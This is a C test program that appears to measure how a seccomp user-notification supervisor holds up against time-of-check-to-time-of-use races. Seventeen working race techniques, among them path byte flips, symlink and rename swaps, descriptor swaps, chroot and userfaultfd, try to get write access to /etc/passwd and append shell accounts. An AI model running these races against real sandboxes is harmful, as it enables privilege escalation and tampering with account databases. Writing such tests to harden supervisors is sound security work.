/*
 *   races FLIP ATTEMPTS SECONDS    makes calls on an argument that FLIP changes all the time between something harmless and a
 *                                  database; prints "attempts N refused R changes C"
 *   races names                    prints the flips
 *
 * seccomp_unotify(2): the kernel reads what a pointer, a descriptor or a path leads to again after the answer. Whoever answers
 * by what it has read loses to whoever changes it in between.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PASSWD "/etc/passwd"
/* As long as the database's path, and different in the first four bytes only: one store flips it. */
#define HARMLESS "/tmp/passwd"
#define WORK "/tmp/work"
#define APPEND (O_WRONLY | O_APPEND)
#define NUMBER 100
/* So many changes are made to last; the rest is counted. */
#define MOST_LASTING 64

/* What the flipping side and the calling side share: memory that stays shared over fork(2). */
struct shared {
    char path[4096];
    struct open_how how;
    volatile int ended;
};

struct race {
    const char *name;
    void (*prepare)(void);
    /* Makes one attempt: a descriptor open for writing, or -1 with errno. */
    int (*attempt)(void);
    /* Flips once, there and back. */
    void (*flip)(void);
    /* How the flipping side is made: 0 a thread, else flags of clone(2). */
    int flags;
};

static struct shared *shared;
static long attempts, refused, changes;
/* The root that the container began with; no flip changes it. */
static int root_fd;
static int harmless_fd, database_fd;
static ino_t known_database;

static void die(const char *what)
{
    fprintf(stderr, "races: %s: %s\n", what, strerror(errno));
    _exit(200);
}

static void pause_for(int turns)
{
    for (int i = 0; i < turns; i++)
        __asm__ volatile("pause");
}

/* The harmless one for longer: to be seen at the database costs an attempt many times what it costs otherwise. */
static void flip_bytes_for(int turns, void *place, const char *harmless, const char *database)
{
    uint32_t first, second;
    memcpy(&first, harmless, sizeof first);
    memcpy(&second, database, sizeof second);
    __atomic_store_n((uint32_t *)place, first, __ATOMIC_RELEASE);
    pause_for(turns);
    __atomic_store_n((uint32_t *)place, second, __ATOMIC_RELEASE);
    pause_for(100);
}

static void flip_bytes(void *place, const char *harmless, const char *database)
{
    flip_bytes_for(300, place, harmless, database);
}

static void nothing(void)
{
}

static int same_as_database(const struct stat *status)
{
    struct stat database;
    return fstatat(root_fd, "etc/passwd", &database, 0) == 0 && database.st_ino == status->st_ino && database.st_dev == status->st_dev;
}

/* An open for writing that went through: of the database? */
static void note_descriptor(int fd)
{
    struct stat status;
    char line[100];
    if (fstat(fd, &status) < 0)
        die("fstat");
    if (same_as_database(&status)) {
        int length = snprintf(line, sizeof line, "race%ld:x:%ld:100::/:/bin/sh\n", changes, 20000 + changes);
        if (changes++ < MOST_LASTING && write(fd, line, (size_t)length) < 0)
            die("write");
    }
    close(fd);
}

/* The path. */

static int open_path(void) { return open(shared->path, APPEND); }
static void flip_path(void) { flip_bytes(shared->path, "/tmp", "/etc"); }
static void prepare_path(void) { strcpy(shared->path, HARMLESS); }

/* The flags of openat2(2), which lie in memory. */

static void prepare_how(void) { shared->how.flags = O_RDONLY; }

static int open_how(void)
{
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, PASSWD, &shared->how, sizeof shared->how);
    if (fd >= 0 && (fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDONLY) {
        close(fd);
        return -2;
    }
    return fd;
}

static void flip_how(void)
{
    uint32_t harmless = O_RDONLY, database = APPEND;
    flip_bytes(&shared->how.flags, (const char *)&harmless, (const char *)&database);
}

/* A symbolic link. */

static void prepare_link(void)
{
    if (symlink(HARMLESS, WORK "/link") < 0 || symlink(PASSWD, WORK "/other") < 0)
        die("links");
}

static int open_link(void) { return open(WORK "/link", APPEND); }
static void flip_link(void) { renameat2(AT_FDCWD, WORK "/link", AT_FDCWD, WORK "/other", RENAME_EXCHANGE); }

/* The working directory. */

static int open_here(void) { return open("passwd", APPEND); }

static void flip_folder(void)
{
    if (chdir("/tmp") < 0)
        die("chdir");
    pause_for(300);
    if (chdir("/etc") < 0)
        die("chdir");
    pause_for(100);
}

/* A directory's descriptor, and the link to one. */

static void prepare_numbers(void)
{
    harmless_fd = open("/tmp", O_PATH | O_DIRECTORY);
    database_fd = open("/etc", O_PATH | O_DIRECTORY);
    if (harmless_fd < 0 || database_fd < 0 || dup2(harmless_fd, NUMBER) < 0)
        die("folders");
}

static void prepare_link_by_number(void)
{
    prepare_numbers();
    if (symlink("/proc/self/fd/100/passwd", WORK "/link") < 0)
        die("link");
}

static int open_at_number(void) { return openat(NUMBER, "passwd", APPEND); }

static void flip_number(void)
{
    dup2(harmless_fd, NUMBER);
    pause_for(300);
    dup2(database_fd, NUMBER);
    pause_for(100);
}

static void prepare_files(void)
{
    harmless_fd = open(HARMLESS, O_PATH);
    database_fd = open(PASSWD, O_PATH);
    if (harmless_fd < 0 || database_fd < 0 || dup2(harmless_fd, NUMBER) < 0)
        die("files");
}

static int open_number(void) { return open("/proc/self/fd/100", APPEND); }

/* The root. */

static void prepare_root(void)
{
    if (mkdir(WORK "/etc", 0755) < 0)
        die("another root");
    close(open(WORK "/etc/passwd", O_WRONLY | O_CREAT, 0644));
}

static int open_database(void) { return open(PASSWD, APPEND); }

static void flip_root(void)
{
    if (chroot(WORK) < 0 || fchdir(root_fd) < 0 || chroot(".") < 0)
        die("chroot");
}

/* The path that a file is put in place of: nothing is opened, the database is another file afterwards. */

static void prepare_exchange(void)
{
    static const char line[] = "race0:x:20000:100::/:/bin/sh\n";
    char bytes[8192];
    int from = open(PASSWD, O_RDONLY), to = open(WORK "/side", O_WRONLY | O_CREAT, 0644);
    ssize_t length = read(from, bytes, sizeof bytes);
    if (length < 0 || write(to, bytes, (size_t)length) < 0 || write(to, line, strlen(line)) < 0)
        die("side file");
    struct stat status;
    if (fstat(from, &status) < 0)
        die("stat");
    known_database = status.st_ino;
    close(from);
    close(to);
    prepare_path();
}

static int exchange(void)
{
    struct stat status;
    int result = renameat2(AT_FDCWD, WORK "/side", AT_FDCWD, shared->path, RENAME_EXCHANGE);
    int failed = errno;
    if (stat(PASSWD, &status) < 0)
        die("stat");
    if (status.st_ino != known_database)
        changes++;
    known_database = status.st_ino;
    errno = failed;
    return result < 0 ? -1 : -2;
}

/* The path of the program: an account tool, or one that is not there. The tool is this program again, and the least of its kind:
 * a real one takes a hundred times as long as the race for which program it is. */

#define TOOL "/usr/sbin/useradd"
#define NO_TOOL "/usr/sbin/noneadd"
#define REFUSED 1
#define CHANGED 2
#define NOT_RUN 126
#define NOT_THERE 127

static void prepare_program(void) { strcpy(shared->path, NO_TOOL); }

/* To run the tool costs most. */
static void flip_program(void) { flip_bytes_for(1500, strrchr(shared->path, '/') + 1, "none", "user"); }

/* What the account tool does: it adds the account `name`. For "-" it has won by running. */
static int add_account(const char *name)
{
    char line[100];
    if (strcmp(name, "-") == 0)
        return CHANGED;
    int fd = open(PASSWD, APPEND);
    if (fd < 0)
        return REFUSED;
    int length = snprintf(line, sizeof line, "%s:x:20000:100::/:/bin/sh\n", name);
    return write(fd, line, (size_t)length) < 0 ? REFUSED : CHANGED;
}

static int run_program(void)
{
    char name[32];
    snprintf(name, sizeof name, changes < MOST_LASTING ? "race%ld" : "-", changes);
    char *const words[] = { "add", name, NULL };
    char *const environment[] = { NULL };
    pid_t child = vfork();
    if (child == 0) {
        execve(shared->path, words, environment);
        _exit(errno == ENOENT ? NOT_THERE : NOT_RUN);
    }
    int status;
    if (child < 0 || waitpid(child, &status, 0) < 0)
        die("run");
    if (WIFEXITED(status) && WEXITSTATUS(status) == CHANGED)
        changes++;
    return WIFEXITED(status) && (WEXITSTATUS(status) == NOT_RUN || WEXITSTATUS(status) == REFUSED) ? -1 : -2;
}

/* Memory that is not there until somebody looks: the first to look is shown one path, the next another (userfaultfd(2)). */

static int faults;

static void prepare_faults(void)
{
    struct uffdio_api api = { .api = UFFD_API };
    faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    if (faults < 0 || ioctl(faults, UFFDIO_API, &api) < 0)
        die("userfaultfd");
    struct uffdio_register range = {
        .range = { (uintptr_t)shared->path, sizeof shared->path }, .mode = UFFDIO_REGISTER_MODE_MISSING
    };
    if (ioctl(faults, UFFDIO_REGISTER, &range) < 0)
        die("register the page");
}

static void answer_fault(void)
{
    static char pages[2][4096] __attribute__((aligned(4096))) = { HARMLESS, PASSWD };
    static int second;
    struct uffd_msg message;
    if (read(faults, &message, sizeof message) != sizeof message)
        die("fault");
    struct uffdio_copy copy = {
        .dst = (uintptr_t)shared->path, .src = (uintptr_t)pages[second], .len = sizeof shared->path
    };
    second = !second;
    if (ioctl(faults, UFFDIO_COPY, &copy) < 0 && errno != EEXIST)
        die("answer a fault");
    struct timespec while_it_reads = { .tv_nsec = 1000 };
    nanosleep(&while_it_reads, NULL);
    madvise(shared->path, sizeof shared->path, MADV_REMOVE);
}

static const struct race races[] = {
    { "path-by-thread", prepare_path, open_path, flip_path, 0 },
    { "path-by-process", prepare_path, open_path, flip_path, SIGCHLD },
    { "flags-by-thread", prepare_how, open_how, flip_how, 0 },
    { "flags-by-process", prepare_how, open_how, flip_how, SIGCHLD },
    { "link-by-thread", prepare_link, open_link, flip_link, 0 },
    { "link-by-process", prepare_link, open_link, flip_link, SIGCHLD },
    { "folder-by-thread", nothing, open_here, flip_folder, 0 },
    { "folder-by-process", nothing, open_here, flip_folder, CLONE_FS | SIGCHLD },
    { "number-by-thread", prepare_numbers, open_at_number, flip_number, 0 },
    { "number-by-process", prepare_numbers, open_at_number, flip_number, CLONE_FILES | SIGCHLD },
    { "link-to-number", prepare_link_by_number, open_link, flip_number, 0 },
    { "descriptor-link", prepare_files, open_number, flip_number, 0 },
    { "root-by-thread", prepare_root, open_database, flip_root, 0 },
    { "exchange-by-thread", prepare_exchange, exchange, flip_path, 0 },
    { "exchange-by-process", prepare_exchange, exchange, flip_path, SIGCHLD },
    { "program-by-thread", prepare_program, run_program, flip_program, 0 },
    { "path-by-fault", prepare_faults, open_path, answer_fault, 0 },
};
#define RACES (sizeof races / sizeof races[0])

static const struct race *race;

static int flip_until_the_end(void *unused)
{
    (void)unused;
    /* nanosleep(2) otherwise takes 50 microseconds more than it is asked for */
    prctl(PR_SET_TIMERSLACK, 1);
    while (!shared->ended)
        race->flip();
    return 0;
}

static void *thread_body(void *unused)
{
    flip_until_the_end(unused);
    return NULL;
}

static pid_t start_flipping(void)
{
    static char stack[65536] __attribute__((aligned(16)));
    pthread_t thread;
    if (!race->flags) {
        if (pthread_create(&thread, NULL, thread_body, NULL) != 0)
            die("thread");
        return 0;
    }
    pid_t child = clone(flip_until_the_end, stack + sizeof stack, race->flags, NULL);
    if (child < 0)
        die("clone");
    return child;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void compete(long most, double seconds)
{
    double end = now() + seconds;
    while (attempts < most && (attempts % 16 || now() < end)) {
        int fd = race->attempt();
        attempts++;
        if (fd >= 0)
            note_descriptor(fd);
        else if (fd == -1)
            refused++;
    }
}

int main(int count, char **words)
{
    const char *path = (const char *)getauxval(AT_EXECFN);
    if (strcmp(path, TOOL) == 0)
        return count == 2 ? add_account(words[1]) : 0;
    if (count == 2 && strcmp(words[1], "names") == 0) {
        for (size_t i = 0; i < RACES; i++)
            puts(races[i].name);
        return 0;
    }
    for (size_t i = 0; count == 4 && i < RACES; i++)
        if (strcmp(words[1], races[i].name) == 0)
            race = &races[i];
    if (!race) {
        fprintf(stderr, "usage: races FLIP ATTEMPTS SECONDS | names\n");
        return 64;
    }
    shared = mmap(NULL, sizeof *shared + 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    root_fd = open("/", O_PATH | O_DIRECTORY);
    if (shared == MAP_FAILED || root_fd < 0 || mkdir(WORK, 0755) < 0)
        die("shared memory and folders");
    close(open(HARMLESS, O_WRONLY | O_CREAT, 0644));
    race->prepare();
    pid_t child = start_flipping();
    compete(atol(words[2]), atof(words[3]));
    shared->ended = 1;
    if (child)
        kill(child, SIGKILL);
    printf("attempts %ld refused %ld changes %ld\n", attempts, refused, changes);
    fflush(stdout);
    _exit(0);
}
